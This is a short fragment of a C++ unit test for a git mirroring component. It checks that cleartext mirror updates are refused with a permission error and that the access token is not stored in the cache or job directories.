  GitRepos other_git(dir.path() / "cache-other", {{"127.0.0.2", "x-access-token", kToken}});
  auto cleartext = other_git.UpdateMirror(other.Url("acme/widgets.git"));
  ASSERT_FALSE(cleartext.has_value());
  EXPECT_EQ(cleartext.error().code, ErrorCode::kPermissionDenied);
  EXPECT_GE(other.refused(), 1);

  // Neither the mirror nor the job's git dir keeps the token.
  EXPECT_EQ(Sh("grep -rl '" + std::string(kToken) + "' '" + dir.path().string() + "/cache' '" +
               (dir.path() / "job").string() + "' || true"),
            "");
}

}  // namespace
}  // namespace drover::fleet
